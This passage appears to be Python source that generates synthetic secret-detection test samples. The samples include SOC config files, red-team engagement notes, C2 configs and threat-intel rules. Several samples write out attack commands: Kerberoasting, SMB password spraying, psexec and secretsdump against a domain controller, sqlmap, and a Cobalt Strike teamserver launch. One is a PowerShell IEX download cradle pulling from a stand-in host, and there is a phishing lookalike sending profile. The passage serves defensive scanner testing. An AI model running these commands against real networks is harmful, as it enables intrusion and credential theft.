    kind: SealedSecret
    metadata:
      name: opencti-admin
      namespace: cti
    spec:
      encryptedData:
        OPENCTI_ADMIN_TOKEN: <<A>>
        OPENCTI_ADMIN_PASSWORD: <<B>>
      template:
        metadata:
          name: opencti-admin
    """, "bitnami-labs/sealed-secrets README", A="AgB" + chars(340, B64) + "==", B="AgC" + chars(340, B64) + "==")
DV("helm-values", "existing-secret", "charts/thehive/values-prod.yaml", """\
    replicaCount: 2
    image:
      repository: strangebee/thehive
      tag: 5.2.9-1
    thehive:
      secret:
        existingSecret: thehive-play-secret
        key: play-secret
      cortex:
        enabled: true
        url: http://cortex:9001
        apiKeySecretRef:
          name: cortex-api
          key: api-key
    elasticsearch:
      password: "{{ .Values.global.esPassword }}"
    """, "Helm docs: values files; StrangeBee TheHive chart")
SV("terraform", "hec-token", "infra/splunk/hec.tf", """\
    variable "hec_token" {
      description = "HEC token used by the cloud log shippers"
      type        = string
      default     = "<<S>>"
    }

    resource "aws_kinesis_firehose_delivery_stream" "guardduty_to_splunk" {
      name        = "guardduty-splunk"
      destination = "splunk"

      splunk_configuration {
        hec_endpoint               = "https://hec.splunk.corp.example:8088"
        hec_token                  = var.hec_token
        hec_acknowledgment_timeout = 600
        hec_endpoint_type          = "Event"
        s3_backup_mode             = "FailedEventsOnly"
      }
    }
    """, uuid_s(upper=True), "Terraform AWS provider: aws_kinesis_firehose_delivery_stream splunk_configuration")
DV("terraform", "sensitive-var", "infra/splunk/variables.tf", """\
    variable "hec_token" {
      description = "HEC token; set TF_VAR_hec_token from the vault in CI"
      type        = string
      sensitive   = true
    }

    variable "es_password" {
      type      = string
      sensitive = true
    }

    data "aws_secretsmanager_secret_version" "vt" {
      secret_id = "soc/virustotal/api-key"
    }
    """, "Terraform docs: sensitive input variables")
SV("ansible-yaml", "misp", "ansible/group_vars/misp_servers.yml", """\
    ---
    misp_base_url: https://misp.soc.corp.internal
    misp_org: CORP-SOC
    misp_admin_email: soc-admin@corp.example
    misp_automation_key: "<<S>>"
    misp_feeds_enabled:
      - 1
      - 2
      - 23
    misp_redis_host: 127.0.0.1
    """, misp_key(), "Ansible docs: group_vars")
DV("ansible-yaml", "template", "ansible/group_vars/cortex.yml", """\
    ---
    cortex_version: 3.1.8-1
    cortex_secret: "{{ vault_cortex_secret }}"
    cortex_es_password: "{{ vault_cortex_es_password }}"
    cortex_analyzers:
      - VirusTotal_GetReport_3_1
      - Shodan_Host_1_0
      - AbuseIPDB_1_0
    cortex_vt_key: "{{ lookup('community.hashi_vault.hashi_vault', 'secret=soc/data/virustotal:key') }}"
    """, "Ansible docs: variables, hashi_vault lookup")
DV("ansible-vault", "ansible-vault", "ansible/group_vars/all/vault.yml", "\n".join([
    vault_blob(7)]) + "\n", "Ansible docs: ansible-vault encrypt")
DV("sops-yaml", "sops", "secrets/ti-keys.enc.yaml", T("""\
    shodan_api_key: <<A>>
    virustotal_api_key: <<B>>
    greynoise_api_key: <<C>>
    sops:
        kms: []
        age:
            - recipient: age1<<R>>
              enc: |
                -----BEGIN AGE ENCRYPTED FILE-----
                YWdlLWVuY3J5cHRpb24ub3JnL3YxCi0+IFgyNTUxOSB<<E>>
                -----END AGE ENCRYPTED FILE-----
        lastmodified: "2024-05-02T09:14:22Z"
        mac: <<M>>
        version: 3.8.1
    """, A=sops(43), B=sops(86), C=sops(86), R=chars(58, string.ascii_lowercase + "023456789"),
    E=chars(40, B64), M=sops(64)), "getsops/sops README: encrypted YAML")
SV("gitlab-ci", "censys", ".gitlab-ci.yml", """\
    stages: [recon, report]

    variables:
      CENSYS_API_ID: "<<ID>>"
      CENSYS_API_SECRET: "<<S>>"
      OUT_DIR: "out"

    asm-scan:
      stage: recon
      image: python:3.12-slim
      script:
        - pip install censys
        - censys search 'services.service_name: RDP and autonomous_system.asn: 64496' --pages 5 > $OUT_DIR/rdp.json
      artifacts:
        paths: [out/]
    """, censys_secret(), "GitLab CI/CD YAML syntax reference: variables", ID=uuid_s())
DV("github-actions", "template", ".github/workflows/feed-sync.yml", """\
    name: feed-sync
    on:
      schedule:
        - cron: "17 */6 * * *"
      workflow_dispatch:
    jobs:
      sync:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1
          - uses: actions/setup-python@0a5c61591373683505ea898e09a3ea4f39ef2b9c # v5.0.0
          - run: pip install -r requirements.txt
          - run: python sync_feeds.py --since 6h
            env:
              MISP_URL: ${{ vars.MISP_URL }}
              MISP_KEY: ${{ secrets.MISP_KEY }}
              OTX_KEY: ${{ secrets.OTX_API_KEY }}
    """, "GitHub Actions docs: secrets context; pinned action SHAs")
SV("jenkinsfile", "virustotal", "pipelines/Jenkinsfile", """\
    pipeline {
      agent { label 'sandbox' }
      stages {
        stage('Hash new samples') {
          steps { sh 'find incoming -type f -exec sha256sum {} + > hashes.txt' }
        }
        stage('Enrich') {
          steps {
            withEnv(['VT_API_KEY=<<S>>']) {
              sh 'python3 enrichment/vt_lookup.py hashes.txt > vt.json'
            }
          }
        }
      }
      post { always { archiveArtifacts 'vt.json' } }
    }
    """, vt_key(), "Jenkins docs: Pipeline withEnv")
SV("crontab", "shodan", "deploy/crontab", """\
    # m h dom mon dow command
    MAILTO=soc-platform@corp.example
    SHODAN_API_KEY=<<S>>
    15 * * * * /opt/exposure/venv/bin/python /opt/exposure/shodan_watch.py >> /var/log/exposure.log 2>&1
    0 6 * * 1 /opt/exposure/venv/bin/python /opt/exposure/weekly_report.py
    """, shodan_key(), "crontab(5): environment settings")
SV("systemd", "abuseipdb", "deploy/fail2ban-abuseipdb-reporter.service", """\
    [Unit]
    Description=Report fail2ban bans to AbuseIPDB
    After=network-online.target

    [Service]
    Type=simple
    User=f2b-reporter
    Environment=ABUSEIPDB_KEY=<<S>>
    ExecStart=/usr/local/bin/abuseipdb-reporter --jail sshd --categories 18,22
    Restart=on-failure

    [Install]
    WantedBy=multi-user.target
    """, abuseipdb_key(), "systemd.exec(5): Environment=")
SV("dockerfile", "greynoise", "docker/enricher/Dockerfile", """\
    FROM python:3.12-slim
    WORKDIR /app
    COPY requirements.txt .
    RUN pip install --no-cache-dir -r requirements.txt
    COPY . .
    ENV GREYNOISE_API_KEY=<<S>> \\
        LOG_LEVEL=info
    USER 10001
    CMD ["python", "-m", "enricher"]
    """, gn_key(), "Dockerfile reference: ENV")
SV("docker-compose", "elastic-password", "cortex/docker-compose.yml", """\
    services:
      elasticsearch:
        image: docker.elastic.co/elasticsearch/elasticsearch:7.17.18
        environment:
          - discovery.type=single-node
          - xpack.security.enabled=true
          - ELASTIC_PASSWORD=<<S>>
      cortex:
        image: thehiveproject/cortex:3.1.8
        depends_on: [elasticsearch]
        ports: ["9001:9001"]
        volumes:
          - ./cortex/application.conf:/etc/cortex/application.conf
          - /var/run/docker.sock:/var/run/docker.sock
    """, words_pw(), "Elastic docs: Install Elasticsearch with Docker (ELASTIC_PASSWORD)")
DV("docker-compose", "template", "misp-docker/docker-compose.yml", """\
    services:
      db:
        image: mariadb:10.11
        environment:
          MYSQL_USER: ${MYSQL_USER:-misp}
          MYSQL_PASSWORD: ${MYSQL_PASSWORD:?set in .env}
          MYSQL_ROOT_PASSWORD: ${MYSQL_ROOT_PASSWORD:?set in .env}
      misp-core:
        image: ghcr.io/misp/misp-docker/misp-core:latest
        environment:
          - "ADMIN_KEY=${ADMIN_KEY}"
          - "ADMIN_PASSWORD=${ADMIN_PASSWORD}"
        depends_on: [db]
    """, "MISP/misp-docker docker-compose.yml")
DV("dotenv", "placeholder", "enricher/.env.example", """\
    # Copy to .env and fill in. Leave blank to disable a provider.
    VT_API_KEY=your-virustotal-api-key
    SHODAN_API_KEY=your-shodan-api-key
    GREYNOISE_API_KEY=
    ABUSEIPDB_KEY=<abuseipdb key>
    URLSCAN_API_KEY=xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx
    SLACK_WEBHOOK_URL=https://hooks.slack.com/services/XXXXXXXXX/XXXXXXXXX/XXXXXXXXXXXXXXXXXXXXXXXX
    """, "dotenv convention: .env.example")
SV("dotenv", "otx", "enricher/.env", """\
    VT_API_KEY=
    SHODAN_API_KEY=
    OTX_API_KEY=<<S>>
    GREYNOISE_API_KEY=
    LOG_LEVEL=debug
    CACHE_TTL=3600
    """, otx_key(), "dotenv convention")
# ---------------------------------------------------------------- pentest notes and scripts (found creds)
SV("markdown", "found-password", "engagements/2024-acme-int/notes/day2.md", """\
    # Day 2 - internal (ACME)

    ## Kerberoasting
    - `GetUserSPNs.py acme.local/jdoe -request -outputfile kerb.hashes` -> 4 SPNs
    - cracked with rockyou + OneRuleToRuleThemAll in ~40 min:

    | account     | SPN                               | password        |
    |-------------|-----------------------------------|-----------------|
    | svc_sqlprod | MSSQLSvc/sql01.acme.local:1433    | <<S>>     |

    ## Next
    - svc_sqlprod is local admin on SQL01 and SQL02 -> dump LSA secrets
    - check if same pw is reused for svc_sqltest
    """, season_pw(), "pentest notes (markdown) with Impacket GetUserSPNs output")
_k = words_pw()
S("xml", "found-password", "engagements/2024-acme-ext/loot/web.config", crlf(T("""\
    <?xml version="1.0" encoding="utf-8"?>
    <!-- pulled from https://portal.acme-corp.com/web.config.bak (finding EXT-04) -->
    <configuration>
      <appSettings>
        <add key="SmtpHost" value="mail.acme-corp.com" />
        <add key="ReportsShare" value="\\\\fs01\\reports" />
      </appSettings>
      <connectionStrings>
        <add name="PortalDb" connectionString="Server=sql01.acme.local;Database=Portal;User Id=portal_app;Password=<<S>>;" providerName="System.Data.SqlClient" />
      </connectionStrings>
    </configuration>
    """, S=_k)), _k, "ASP.NET web.config connectionStrings")
SV("markdown", "found-password", "engagements/2024-acme-int/notes/lateral.md", """\
    ## Lateral movement

    Password spray (one attempt per account, 30 min apart) hit one account:

    ```
    crackmapexec smb 10.20.0.0/24 -u svc_backup -p '<<S>>' --continue-on-success
    SMB  10.20.0.14  445  BKP01  [+] acme.local\\svc_backup:<<S>> (Pwn3d!)
    SMB  10.20.0.15  445  FS01   [+] acme.local\\svc_backup:<<S>>
    ```

    svc_backup is in Backup Operators -> reg save HKLM\\SAM / SYSTEM on FS01.
    """, season_pw(), "CrackMapExec wiki: SMB password spraying output")
SV("shell-history", "found-password", "engagements/2024-acme-int/operator/zsh_history.txt", """\
    : 1712829011:0;proxychains4 -q nmap -sT -Pn -p 445,3389,5985 10.20.0.0/24 -oA scans/internal
    : 1712829240:0;cd ~/tools/impacket/examples
    : 1712829301:0;python3 psexec.py 'acme.local/adm_mreyes:<<S>>@10.20.0.11'
    : 1712829677:0;python3 secretsdump.py -just-dc-user krbtgt acme.local/adm_mreyes@10.20.0.10
    : 1712829702:0;history | tail
    """, words_pw(), "zsh extended history format; Impacket psexec.py")
SV("msf-rc", "found-password", "engagements/2024-acme-int/msf/smb_login.rc", """\
    use auxiliary/scanner/smb/smb_login
    set RHOSTS file:/home/op/acme/targets/windows.txt
    set SMBDomain ACME
    set SMBUser helpdesk
    set SMBPass <<S>>
    set STOP_ON_SUCCESS false
    set THREADS 16
    run
    """, human_pw(), "Metasploit docs: resource scripts; smb_login options")
SV("yaml", "database", "home/op/.msf4/database.yml", """\
    development: &pgsql
      adapter: postgresql
      database: msf
      username: msf
      password: <<S>>
      host: 127.0.0.1
      port: 5432
      pool: 200

    production: &production
      <<: *pgsql
    """, rand_pw(44, "+/"), "Metasploit msfdb init: ~/.msf4/database.yml")
SV("markdown", "found-password", "reports/acme-2024/appendix-c-commands.md", """\
    # Appendix C - commands run

    Remote shell on HR-WS22 after the phishing payload; WinRM was enabled via GPO:

        evil-winrm -i 10.20.4.22 -u 'acme\\\\k.osei' -p '<<S>>'

    The password was recovered in cleartext from `C:\\Users\\Public\\Documents\\creds.txt`
    (finding INT-07). The client was told to reset it on 2024-04-12.
    """, human_pw(), "evil-winrm README usage")
SV("shell", "found-password", "engagements/2024-acme-ext/sqli.sh", """\
    #!/bin/bash
    # EXT-02 SQLi in /reports/export (authenticated)
    sqlmap -u "https://portal.acme-corp.com/reports/export?id=12" \\
      --auth-type=Basic --auth-cred="reporting:<<S>>" \\
      --dbms=mssql --level=3 --risk=2 --batch \\
      --output-dir=out/sqlmap
    """, human_pw(), "sqlmap usage wiki: --auth-type/--auth-cred")
SV("text", "found-password", "engagements/2024-acme-ext/loot/hydra-ssh.txt", """\
    Hydra v9.5 (c) 2023 by van Hauser/THC & David Maciejak
    [DATA] max 4 tasks per 1 server, overall 4 tasks, 1200 login tries (l:12/p:100), ~300 tries per task
    [DATA] attacking ssh://203.0.113.45:22/
    [22][ssh] host: 203.0.113.45   login: deploy   password: <<S>>
    1 of 1 target successfully completed, 1 valid password found
    Hydra (https://github.com/vanhauser-thc/thc-hydra) finished at 2024-04-09 14:02:51
    """, human_pw(), "thc-hydra output format")
_k = pem("OPENSSH")
S("ssh-key", "private-key", "engagements/2024-acme-int/loot/10.20.0.31/id_rsa", T("""\
    <<K>>
    """, K=_k), _k, "OpenSSH private key found on a host during an engagement")
SV("markdown", "aws-secret", "engagements/2024-acme-cloud/notes/s3.md", """\
    # Cloud - open buckets

    `acme-build-artifacts` is world-listable. `ci/deploy.env` in it contains:

    ```
    AWS_ACCESS_KEY_ID=<<ID>>
    AWS_SECRET_ACCESS_KEY=<<S>>
    AWS_DEFAULT_REGION=eu-west-1
    ```

    `sts get-caller-identity` -> arn:aws:iam::111122223333:user/ci-deployer (AdministratorAccess!)
    """, fakes.aws_secret_key(_seed()), "pentest notes; AWS CLI env vars", ID=fakes.aws_key_id(_seed()))
SV("dotenv", "database", "engagements/2024-acme-ext/loot/git-dumper/portal/.env", """\
    APP_NAME=AcmePortal
    APP_ENV=production
    APP_DEBUG=false
    APP_URL=https://portal.acme-corp.com
    DB_CONNECTION=mysql
    DB_HOST=10.20.3.5
    DB_DATABASE=portal
    DB_USERNAME=portal
    DB_PASSWORD=<<S>>
    """, human_pw(), "Laravel .env recovered with git-dumper")
SV("json", "found-password", "engagements/2024-acme-ext/burp/project-options.json", """\
    {
        "project_options":{
            "connections":{
                "upstream_proxy":{
                    "servers":[
                        {
                            "destination_host":"*.acme-corp.com",
                            "enabled":true,
                            "proxy_host":"egress.corp.example",
                            "proxy_port":3128,
                            "authentication_type":"basic",
                            "username":"pentest-egress",
                            "password":"<<S>>"
                        }
                    ]
                }
            }
        }
    }
    """, rand_pw(18, "!#%"), "Burp Suite docs: project options JSON, upstream proxy servers")
SV("text", "found-password", "engagements/2024-acme-int/loot/kerberoast.cracked", """\
    $krb5tgs$23$*svc_reporting$ACME.LOCAL$acme.local/svc_reporting*$<<H>>$<<B>>:<<S>>
    Session..........: hashcat
    Status...........: Cracked
    Hash.Mode........: 13100 (Kerberos 5, etype 23, TGS-REP)
    Time.Started.....: Tue Apr  9 11:02:41 2024 (38 mins, 12 secs)
    Recovered........: 1/1 (100.00%) Digests
    """, season_pw(), "hashcat --show output, mode 13100", H=hexs(32), B=hexs(180))
SV("proxychains-conf", "socks-password", "engagements/2024-acme-int/proxychains.conf", """\
    strict_chain
    proxy_dns
    remote_dns_subnet 224
    tcp_read_time_out 15000
    tcp_connect_time_out 8000

    [ProxyList]
    # chisel on the jump box (JMP01)
    socks5 10.20.0.250 1080 op <<S>>
    """, rand_pw(16), "proxychains-ng proxychains.conf ProxyList format")
SV("shell", "c2-password", "infra/c2/start-teamserver.sh", """\
    #!/bin/bash
    # redteam infra - teamserver on c2-01 (only reachable over the WireGuard mesh)
    cd /opt/cobaltstrike
    IP=$(ip -4 addr show wg0 | awk '/inet/ {print $2}' | cut -d/ -f1)
    ./teamserver "$IP" '<<S>>' profiles/office365.profile
    """, words_pw(), "Cobalt Strike manual: starting the team server")
SV("json", "sliver-token", "operators/alice_c2-01.cfg", """\
    {
      "operator": "alice",
      "token": "<<S>>",
      "lhost": "c2-01.redteam.internal",
      "lport": 31337,
      "ca_certificate": "-----BEGIN CERTIFICATE-----\\nMIIB<<C>>\\n-----END CERTIFICATE-----\\n"
    }
    """, hexs(64), "BishopFox/sliver: multiplayer operator config (new-operator)", C=chars(64, B64))
SV("dotenv", "mythic", "infra/mythic/.env", """\
    ALLOWED_IP_BLOCKS="10.66.0.0/16"
    DEBUG_LEVEL="warning"
    MYTHIC_ADMIN_USER="mythic_admin"
    MYTHIC_ADMIN_PASSWORD="<<S>>"
    MYTHIC_SERVER_PORT="17443"
    NGINX_PORT="7443"
    POSTGRES_HOST="mythic_postgres"
    RABBITMQ_HOST="mythic_rabbitmq"
    """, rand_pw(30), "its-a-feature/Mythic .env")
SV("json", "smtp-password", "phishing/gophish/sending-profile.json", """\
    {
      "name": "acme-hr-lookalike",
      "interface_type": "SMTP",
      "from_address": "HR Team <hr@acme-corp-benefits.com>",
      "host": "smtp.mailgun.org:587",
      "username": "postmaster@acme-corp-benefits.com",
      "password": "<<S>>",
      "ignore_cert_errors": false,
      "headers": [{"key": "X-Mailer", "value": "Microsoft Outlook 16.0"}]
    }
    """, hexs(32) + "-" + hexs(8) + "-" + hexs(8), "gophish API docs: sending profiles (SMTP)")
SV("shell", "found-password", "engagements/2024-acme-int/bloodhound.sh", """\
    #!/bin/sh
    # collect with the low-priv user from the phish
    bloodhound-python -d acme.local -u j.mwangi -p '<<S>>' \\
      -ns 10.20.0.10 -c All,LoggedOn --zip
    mv *_bloodhound.zip ../loot/
    """, human_pw(), "fox-it/BloodHound.py README")
# ---------------------------------------------------------------- threat-intel artefacts (decoys)
def hexbytes(n: int) -> str:
    h = hexs(2 * n, upper=True)
    return " ".join(h[i:i + 2] for i in range(0, len(h), 2))


DV("yara", "yara-hex", "rules/malware/win_qakbot_loader.yar", """\
    rule Qakbot_Loader_2024
    {
        meta:
            author = "CORP SOC"
            description = "Qakbot loader string decryption routine"
            date = "2024-06-12"
            hash = "<<H>>"
            tlp = "GREEN"
        strings:
            $decrypt = { <<A>> }
            $api_hash = { <<B>> [2-4] <<C>> }
            $xor_key = { 8A 04 ?? 32 04 ?? 88 04 ?? 4? 3B ?? 7C }
        condition:
            uint16(0) == 0x5A4D and filesize < 2MB and 2 of them
    }
    """, "YARA docs: hexadecimal strings, jumps and wildcards", H=sha256(), A=hexbytes(16), B=hexbytes(6), C=hexbytes(8))
DV("yara", "yara-strings", "rules/hacktools/credential_stealer_strings.yar", """\
    rule Stealer_Browser_Credential_Strings
    {
        meta:
            description = "Infostealer that reads browser password stores"
            reference = "internal IR-2024-031"
        strings:
            $s1 = "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data" ascii wide
            $s2 = "SELECT origin_url, username_value, password_value FROM logins" ascii
            $s3 = "encrypted_key" ascii
            $b64 = "U0VMRUNUIG9yaWdpbl91cmwsIHVzZXJuYW1lX3ZhbHVlLCBwYXNzd29yZF92YWx1ZQ==" ascii
            $pw = "password=" ascii nocase
        condition:
            uint16(0) == 0x5A4D and 3 of them
    }
    """, "YARA docs: text strings, modifiers")
DV("yara", "regex", "rules/leaks/cloud_keys_in_binaries.yar", """\
    rule Embedded_Cloud_Credentials
    {
        meta:
            description = "Flags binaries that embed cloud access keys (key shapes only)"
        strings:
            $aws = /AKIA[0-9A-Z]{16}/
            $gh = /ghp_[A-Za-z0-9]{36}/
            $slack = /xox[baprs]-[0-9A-Za-z-]{10,48}/
            $gcp = "\\"type\\": \\"service_account\\""
        condition:
            any of them
    }
    """, "YARA docs: regular expressions")
DV("sigma", "sigma-rule", "sigma/rules/windows/proc_creation_win_mimikatz_cmdline.yml", """\
    title: Mimikatz Command Line Keywords
    id: <<U>>
    status: test
    description: Detects well-known mimikatz command line arguments
    author: CORP SOC
    date: 2024/02/07
    tags:
        - attack.credential_access
        - attack.t1003.001
    logsource:
        category: process_creation
        product: windows
    detection:
        selection:
            CommandLine|contains:
                - 'sekurlsa::logonpasswords'
                - 'lsadump::sam'
                - 'lsadump::dcsync'
                - 'kerberos::golden'
        condition: selection
    falsepositives:
        - Red team exercises
    level: high
    """, "SigmaHQ/sigma rule specification", U=uuid_s())
DV("sigma", "sigma-rule", "sigma/rules/windows/proc_creation_win_net_user_add_password.yml", """\
    title: New User Created With Password On Command Line
    id: <<U>>
    status: experimental
    description: net user /add with a password on the command line
    logsource:
        category: process_creation
        product: windows
    detection:
        selection_img:
            Image|endswith: ['\\\\net.exe', '\\\\net1.exe']
        selection_cli:
            CommandLine|contains|all: [' user ', ' /add']
        filter_no_pw:
            CommandLine|endswith: ' /add'
        condition: all of selection_* and not filter_no_pw
    fields: [CommandLine, ParentImage, User]
    level: medium
    """, "SigmaHQ/sigma rule specification", U=uuid_s())
DV("suricata", "ja3", "suricata/rules/local.rules", """\
    # local.rules - SOC custom signatures
    alert tls $HOME_NET any -> $EXTERNAL_NET any (msg:"SOC - JA3 Cobalt Strike default"; ja3.hash; content:"<<J1>>"; sid:9000101; rev:2;)
    alert tls $HOME_NET any -> $EXTERNAL_NET any (msg:"SOC - JA3 Sliver implant"; ja3.hash; content:"<<J2>>"; sid:9000102; rev:1;)
    alert tcp $EXTERNAL_NET any -> $HOME_NET 445 (msg:"SOC - SMB suspicious trans2"; flow:to_server,established; content:"|FF|SMB|32 00 00 00 00|"; offset:4; depth:9; content:"|<<X>>|"; distance:0; sid:9000103; rev:1;)
    alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"SOC - Base64 PowerShell in URI"; http.uri; content:"SQBFAFgA"; sid:9000104; rev:1;)
    alert dns $HOME_NET any -> any any (msg:"SOC - DGA-like long label"; dns.query; pcre:"/^[a-z0-9]{30,}\\./"; sid:9000105; rev:1;)
    """, "Suricata docs: ja3.hash keyword, content hex notation", J1=md5(), J2=md5(), X=hexbytes(8))
DV("zeek", "ioc", "zeek/intel/corp-intel.dat", "\t".join(["#fields", "indicator", "indicator_type", "meta.source", "meta.desc"]) + "\n" + "\n".join([
    "\t".join([sha256(), "Intel::FILE_HASH", "IR-2024-031", "stealer dropper"]),
    "\t".join([md5(), "Intel::FILE_HASH", "IR-2024-031", "stealer payload"]),
    "\t".join(["185.220.101.47", "Intel::ADDR", "threatfox", "qakbot c2"]),
    "\t".join(["cdn-update.example", "Intel::DOMAIN", "urlhaus", "payload host"]),
    "\t".join([sha1(), "Intel::CERT_HASH", "sslbl", "c2 certificate"]),
]) + "\n", "Zeek docs: Intelligence Framework input files")
DV("csv", "hashes", "iocs/2024-06-qakbot.csv", "type,value,first_seen,confidence,comment\n" + "\n".join(
    f"{t},{v},2024-06-{d:02d},{c},{m}" for t, v, d, c, m in [
        ("sha256", sha256(), 10, 90, "OneNote dropper"), ("sha256", sha256(), 10, 90, "wsf stage"),
        ("md5", md5(), 11, 70, "dll payload"), ("sha1", sha1(), 11, 70, "dll payload"),
        ("sha256", sha256(), 12, 80, "second stage"), ("ip", "185.220.101.47", 12, 60, "c2"),
        ("domain", "cdn-update.example", 12, 60, "delivery")]) + "\n", "CSV IOC export")
DV("text", "hashes", "iocs/hashes_sha256.txt", "# SHA256 of samples from IR-2024-044 (LockBit 3.0 affiliate)\n" + "\n".join(
    sha256() for _ in range(12)) + "\n", "plain hash list as shared on threat-intel repositories")
DV("stix-json", "ioc", "stix/bundle--ir-2024-044.json", """\
    {
      "type": "bundle",
      "id": "bundle--<<U1>>",
      "objects": [
        {
          "type": "indicator",
          "spec_version": "2.1",
          "id": "indicator--<<U2>>",
          "created": "2024-06-14T09:12:00.000Z",
          "modified": "2024-06-14T09:12:00.000Z",
          "name": "LockBit 3.0 encryptor",
          "pattern": "[file:hashes.'SHA-256' = '<<H1>>'] OR [file:hashes.MD5 = '<<H2>>']",
          "pattern_type": "stix",
          "valid_from": "2024-06-14T09:12:00Z",
          "labels": ["malicious-activity"]
        }
      ]
    }
    """, "OASIS STIX 2.1 spec: indicator patterns", U1=uuid_s(), U2=uuid_s(), H1=sha256(), H2=md5())
DV("xml", "ioc", "openioc/ir-2024-031.ioc", """\
    <?xml version="1.0" encoding="us-ascii"?>
    <ioc xmlns="http://schemas.mandiant.com/2010/ioc" id="<<U>>" last-modified="2024-03-02T10:00:00">
      <short_description>Stealer dropper IR-2024-031</short_description>
      <definition>
        <Indicator operator="OR" id="<<V>>">
          <IndicatorItem id="<<W>>" condition="is">
            <Context document="FileItem" search="FileItem/Md5sum" type="mir" />
            <Content type="md5"><<H>></Content>
          </IndicatorItem>
          <IndicatorItem id="<<X>>" condition="contains">
            <Context document="FileItem" search="FileItem/FileName" type="mir" />
            <Content type="string">svchosts.exe</Content>
          </IndicatorItem>
        </Indicator>
      </definition>
    </ioc>
    """, "Mandiant OpenIOC 1.0 schema", U=uuid_s(), V=uuid_s(), W=uuid_s(), X=uuid_s(), H=md5())


def hexdump_lines(n: int) -> str:
    out = []
    for i in range(n):
        h = hexs(32)
        words = " ".join(h[j:j + 4] for j in range(0, 32, 4))
        out.append(f"\t0x{i * 16:04x}:  {words}  " + "".join(_rng().choice(string.ascii_letters + ".") for _ in range(16)))
    return "\n".join(out)


DV("text", "hexdump", "analysis/pcap/dns-tunnel-sample.txt", "$ tcpdump -nn -X -r dns-tunnel.pcap -c 1\n"
   "14:22:07.418201 IP 10.20.4.22.53144 > 10.20.0.10.53: 48211+ TXT? aGVsbG8td29ybGQ.t.exfil-test.example. (61)\n"
   + hexdump_lines(6) + "\n", "tcpdump(1) -X output")
DV("csv", "ja3", "fingerprints/ja3_known_bad.csv", "ja3_md5,first_seen,last_seen,listing_reason\n" + "\n".join(
    f"{md5()},2023-{m:02d}-0{d},2024-05-2{d},{r}" for m, d, r in [
        (1, 3, "Dridex"), (2, 4, "TrickBot"), (3, 5, "Tofsee"), (4, 6, "Cobalt Strike"), (5, 7, "AsyncRAT"), (6, 8, "Sliver")]) + "\n",
   "abuse.ch SSLBL JA3 fingerprint CSV")
DV("text", "jarm", "fingerprints/c2-jarm.txt", "# JARM fingerprints of C2 frameworks (default configs), from public research\n" + "\n".join(
    f"{name:<16}{hexs(30)}{hexs(32)}" for name in ["cobaltstrike", "metasploit", "sliver", "mythic", "covenant", "havoc"]) + "\n",
   "salesforce/jarm README")
DV("text", "hashcat-examples", "cracking/example_hashes.txt", """\
    # hashcat example hashes (hashcat.net/wiki/doku.php?id=example_hashes) - plaintext is "hashcat"
    0     MD5                   8743b52063cd84097a65d1633f5c74f5
    100   SHA1                  b89eaac7e61417341b710b727768294d0e6a277b
    1400  SHA2-256              127e6fbfe24a750e72930c220a8e138275656b8e5d8f48a98c3c92df2caba935
    1000  NTLM                  b4b9b02e6f09a9bd760f388b67351e2b
    3200  bcrypt $2*$           $2a$05$LhayLxezLhK1LhWvKxCyLOj0j1u.Kj0jZ0pEmm134uzrQlFvQJLF6
    500   md5crypt              $1$28772684$iEwNOgGugqO9.bIz5sk8k/
    1800  sha512crypt           $6$52450745$k5ka2p8bFuSmoVT1tzOyyuaREkkKBcCNqoDKzYiJL9RaE8yMnPgh2XzzF0NDrUhgrcLwg78xs1w5pJiypEdFX/
    """, "hashcat wiki: example hashes")
DV("text", "wordlist", "cracking/wordlists/corp-top-200.txt", """\
    123456
    password
    Password1
    Welcome1
    Welcome123!
    Summer2024!
    Winter2023!
    Company123
    Acme2024!
    P@ssw0rd
    Passw0rd!
    qwerty123
    letmein
    changeme
    iloveyou
    """, "SecLists-style password wordlist for spraying")
DV("markdown", "b64-payload", "reports/ir-2024-052/timeline.md", T("""\
    # IR-2024-052 timeline

    | time (UTC) | host    | event |
    |------------|---------|-------|
    | 09:41:12   | FIN-LT7 | `winword.exe` spawns `powershell.exe -nop -w hidden -enc <<P>>` |
    | 09:41:15   | FIN-LT7 | download from `hxxps://cdn-update[.]example/a.ps1` |
    | 09:43:02   | FIN-LT7 | Beacon to 185.220.101[.]47:443 |

    Decoded command: `IEX (New-Object Net.WebClient).DownloadString('https://cdn-update.example/a.ps1')`
    """, P=base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('https://cdn-update.example/a.ps1')".encode("utf-16-le")).decode()),
   "incident report timeline; PowerShell -EncodedCommand (UTF-16LE base64)")
DV("python", "b64-payload", "tests/test_webshell_detector.py", T("""\
    import base64

    from detector import classify

    # China Chopper-style one-liner, as found on IIS during IR-2023-118 (defanged: eval disabled)
    SAMPLE = "<<B>>"


    def test_detects_chopper():
        body = base64.b64decode(SAMPLE).decode()
        assert classify(body) == "webshell"


    def test_benign_aspx():
        assert classify("<%@ Page Language=\\"C#\\" %><h1>ok</h1>") == "benign"
    """, B=b64('<%@ Page Language="Jscript"%><%/*eval(Request.Item["z"],"unsafe");*/%>')), "unit test with a defanged webshell sample")
DV("python", "eicar", "tests/test_av_pipeline.py", """\
    import pytest

    # The EICAR standard anti-virus test file (https://www.eicar.org/download-anti-malware-testfile/)
    EICAR = r"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


    @pytest.mark.integration
    def test_clamd_flags_eicar(clamd):
        result = clamd.instream(EICAR.encode())
        assert result["stream"][0] == "FOUND"
    """, "EICAR anti-malware test file")
DV("text", "ransom-note", "iocs/ir-2024-044/README-RESTORE.txt", """\
    ~~~ Your files are encrypted ~~~
    >>>> What happened?
    All your important files are encrypted. Do not rename or modify them.
    >>>> Contact us via TOR browser:
    http://<<O>>.onion/chat/<<C>>
    Your personal ID: <<I>>
    >>>> Payment: 3.5 BTC to bc1q<<B>>
    """, "ransom note collected as an IOC", O=chars(56, string.ascii_lowercase + "234567"), C=hexs(32),
    I=hexs(32, upper=True), B=chars(38, string.ascii_lowercase + "023456789"))
DV("markdown", "certificate", "reports/c2-infra/certs.md", T("""\
    # C2 infrastructure - TLS certificates

    The beacon servers reuse one self-signed certificate (SHA1 `<<S>>`):

    ```
    <<C>>
    ```

    Pivot on `services.tls.certificates.leaf_data.fingerprint: <<F>>` in Censys.
